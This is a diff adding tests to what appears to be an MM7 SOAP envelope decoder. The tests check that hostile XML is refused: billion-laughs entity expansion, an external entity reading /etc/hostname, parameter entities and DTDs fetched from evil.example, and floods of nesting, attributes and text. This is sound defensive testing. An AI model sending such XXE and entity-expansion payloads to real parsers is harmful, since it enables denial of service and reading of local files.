@@ -181,6 +181,40 @@ describe('a flood', () => {
   });
 });
 
+describe('an envelope that is made to hurt', () => {
+  const withType = (declarations: string, content: string): string =>
+    deliverEnvelope(`<mm7:Subject>${content}</mm7:Subject>`).replace('?>', `?><!DOCTYPE a ${declarations}>`);
+  const laughs = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`);
+
+  it.each([
+    ['entities that multiply', 'doctype', withType(`[<!ENTITY l0 "ha">${laughs.join('')}]`, '&l9;')],
+    ['an entity that is a file', 'doctype', withType('[<!ENTITY f SYSTEM "file:///etc/hostname">]', '&f;')],
+    ['a parameter entity from elsewhere', 'doctype', withType('[<!ENTITY % p SYSTEM "http://evil.example/p">%p;]', '')],
+    ['a document type from elsewhere', 'doctype', withType('SYSTEM "http://evil.example/a.dtd"', '')],
+    ['elements in elements', 'xml-too-deep', deliverEnvelope('<mm7:a>'.repeat(100_000))],
+    ['a flood of attributes', 'too-many-attributes', deliverEnvelope(`<mm7:a ${flood((n) => `a${n}="" `)}/>`)],
+    ['a flood of namespaces', 'too-many-attributes', deliverEnvelope(`<mm7:a ${flood((n) => `xmlns:a${n}="u" `)}/>`)],
+    ['a flood of elements', 'too-many-extensions', deliverEnvelope(flood(() => '<mm7:a/>'))],
+    ['a text without end', 'text-too-long', deliverEnvelope(`<mm7:Subject>${'a'.repeat(300_000)}</mm7:Subject>`)],
+    ['nothing but white space', 'envelope-too-large', deliverEnvelope(' '.repeat(2 * MiB))],
+  ])('is refused: %s', async (_what, code, envelope) => {
+    const bodies: [string, string][] = [
+      ['text/xml', envelope],
+      [relatedType, related(part(['Content-Type: text/xml', 'Content-ID: <root>'], envelope))],
+    ];
+    for (const [contentType, body] of bodies) {
+      const streamed = await errorOf(() => readAll(contentType, bytesOf(body)));
+      const inMemory = await errorOf(() => decodeBuffer(contentType, bytesOf(body)));
+      for (const error of [streamed, inMemory]) expect([error.code, error.statusCode]).toEqual([code, 4004]);
+    }
+  });
+});
+
+/** Ten thousand pieces, each with its number. */
+function flood(piece: (number: number) => string): string {
+  return Array.from({ length: 10_000 }, (_, number) => piece(number)).join('');
+}
+
 describe('names that every object has', () => {
   it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
     '%s is a header field, a parameter, a Content-ID and a reference like any other',
@@ -201,6 +235,14 @@ describe('names that every object has', () => {
 });
 
 describe('what goes out', () => {
+  it.each(['\ud800', '\udc00', '\ud83d and no more', '\u0000', '\u001b[2J', '\ufffe'])(
+    'is refused if no XML can carry it: %j',
+    (subject) => {
+      const { content: _, ...message } = deliverReq;
+      expect(() => encode({ ...message, subject })).toThrow(expect.objectContaining({ code: 'invalid-value' }));
+    },
+  );
+
   it('has boundaries that do not come from Math.random', () => {
     const random = Math.random;
     Math.random = () => 0.5;
